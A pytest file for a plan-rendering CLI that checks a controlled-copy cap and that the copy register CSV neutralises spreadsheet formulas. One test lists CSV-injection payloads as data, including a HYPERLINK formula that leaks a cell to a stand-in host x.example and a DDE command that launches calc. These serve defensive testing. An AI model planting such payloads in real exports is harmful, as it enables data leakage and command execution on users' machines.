"""Controlled copies: capped before anything is written, register cells safe from spreadsheet formulas."""

import csv
import shutil

from click.testing import CliRunner

from plancraft.cli import main
from tests.conftest import PLANS

EXAMPLE = PLANS / "examples" / "bank-branch.zh.yaml"
DISTRIBUTION = """distribution:
  - to: 各营业网点
    copies: 3
  - to: 综合部
    copies: 1
  - to: 内控合规部
    copies: 1
"""


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def signed(tmp_path, distribution):
    plan = tmp_path / "plan.yaml"
    text = EXAMPLE.read_text(encoding="utf-8")
    assert DISTRIBUTION in text
    plan.write_text(text.replace(DISTRIBUTION, distribution), encoding="utf-8")
    for step, name, role in (
        ("prepared", "李明", "office-head"),
        ("reviewed", "张华", "compliance-head"),
        ("approved", "王强", "president"),
    ):
        result = run("sign", plan, "--step", step, "--name", name, "--role", role, "--date", "2024-09-15")
        assert result.exit_code == 0, result.output
    return plan


def test_copies_over_the_cap_are_refused_before_anything_is_written(tmp_path):
    plan = signed(tmp_path, "distribution:\n  - to: 各营业网点\n    copies: 1001\n")
    result = run("render", plan, "--final", "--copies", "-o", tmp_path / "out")
    assert result.exit_code == 2, result.output
    assert "asks for 1,001 controlled copies, more than the limit of 1,000" in result.output
    assert "--max-copies 1001" in result.output
    assert not (tmp_path / "out").exists()


def test_max_copies_lowers_and_raises_the_cap(tmp_path):
    plan = signed(tmp_path, "distribution:\n  - to: 各营业网点\n    copies: 3\n")
    assert run("render", plan, "--final", "--copies", "--max-copies", "2", "-o", tmp_path / "out").exit_code == 2
    assert not (tmp_path / "out").exists()
    result = run("render", plan, "--final", "--copies", "--max-copies", "3", "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir())[-2:] == ["register.csv", "register.json"]


def test_register_csv_neutralises_formulas(tmp_path):
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]
    distribution = "distribution:\n" + "".join(f"  - to: '{h.replace(chr(39), chr(39) * 2)}'\n    copies: 1\n" for h in hostile)
    plan = signed(tmp_path, distribution)
    result = run("render", plan, "--final", "--copies", "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    with open(tmp_path / "out" / "register.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["recipient"] for row in rows] == ["'" + h for h in hostile]
    assert all(not row["recipient"].startswith(("=", "+", "-", "@")) for row in rows)
    import json

    assert [row["recipient"] for row in json.loads((tmp_path / "out" / "register.json").read_text())] == hostile
    shutil.rmtree(tmp_path / "out")
